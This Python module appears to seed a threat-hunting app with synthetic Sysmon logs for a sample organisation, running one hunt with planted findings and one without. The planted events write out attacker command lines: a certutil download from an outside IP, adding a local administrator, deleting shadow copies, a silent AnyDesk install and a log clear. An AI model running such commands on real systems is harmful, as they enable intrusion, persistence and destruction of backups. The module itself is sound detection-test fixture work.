"""Two small hunts of the sample commune, through the room's own actions and the real engine: one with something found, one quiet."""

import json
from collections.abc import Iterator, Sequence
from datetime import date, datetime, time, timedelta
from typing import Any

from luytre.site.world import LAST_DAY
from luytre.site.world.deeds import ZONE

DAYS = 14
FROM = LAST_DAY - timedelta(DAYS)
AT = datetime.combine(LAST_DAY, time(6, 30), ZONE)
SYSMON = {"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1, "Provider_Name": "Microsoft-Windows-Sysmon"}
FOUND: tuple[tuple[int, int, str, dict[str, Any]], ...] = (  # host, day, hour, event
    (
        0,
        9,
        "22:41",
        {**SYSMON, "Image": "C:\\Windows\\System32\\certutil.exe", "CommandLine": "certutil -urlcache -f http://198.51.100.9/a a"},
    ),
    (0, 9, "22:58", {**SYSMON, "Image": "C:\\Windows\\System32\\net.exe", "CommandLine": "net localgroup administrators hotro /add"}),
    (0, 9, "23:40", {**SYSMON, "Image": "C:\\Windows\\System32\\vssadmin.exe", "CommandLine": "vssadmin delete shadows /all /quiet"}),
    (1, 10, "01:12", {**SYSMON, "Image": "C:\\ProgramData\\AnyDesk.exe", "CommandLine": "AnyDesk.exe --install C:\\ProgramData --silent"}),
    (0, 10, "01:30", {"Channel": "Security", "EventID": 1102, "Provider_Name": "Microsoft-Windows-Eventlog", "SubjectUserName": "hotro"}),
)


def load() -> None:
    from luytre.register.models import Account
    from luytre.register.queries import organisation
    from luytre.rooms.hunting import queries
    from luytre.site.seeding.cast import COMMUNE

    by = Account.objects.select_related("person").get(username="xa").ref
    body = COMMUNE if COMMUNE.startswith("org:") else f"org:{COMMUNE}"
    assert organisation(body.removeprefix("org:"))
    systems = queries.systems_of(body, LAST_DAY)
    if len(systems) > 1:
        _hunt(by, body, systems[0][0], ("WEB-01", "APP-01", "PC-TIEPDAN-02"), 2, found=True)
        _hunt(by, body, systems[1][0], ("LOA-01", "LOA-02"), 2, found=False)


def _hunt(by: str, body: str, system: str, hosts: Sequence[str], logged: int, *, found: bool) -> None:
    """Logs of the first `logged` hosts only: the others are what the coverage misses."""
    from luytre.rooms.hunting import actions

    hunt = actions.start(by=by, at=AT, body=body, systems={system: hosts}, from_on=FROM, until_on=LAST_DAY)
    target = hunt.targets.get()
    for number, host in enumerate(hosts[:logged]):
        content = "".join(f"{json.dumps(row)}\n" for row in _events(number, host, found)).encode()
        actions.take_file(by=by, at=AT, target=target, name=f"{host}-Sysmon.json", content=content)
    run = actions.ask_run(by=by, at=AT, hunt=hunt)
    actions.run(run.pk, now=lambda: AT, workers=1)


def _events(number: int, host: str, found: bool) -> Iterator[dict[str, Any]]:
    for day in range(DAYS):
        on = FROM + timedelta(day)
        for hour in range(0, 24, 3):
            yield _at(
                host,
                on,
                f"{hour:02}:05",
                {**SYSMON, "Image": "C:\\Windows\\System32\\svchost.exe", "CommandLine": "svchost.exe -k netsvcs"},
            )
        yield from (_at(host, on, clock, event) for which, when, clock, event in FOUND if found and (which, when) == (number, day))


def _at(host: str, on: date, clock: str, event: dict[str, Any]) -> dict[str, Any]:
    return {**event, "Computer": f"{host}.xa.local", "TimeCreated": f"{on.isoformat()}T{clock}:00+07:00"}
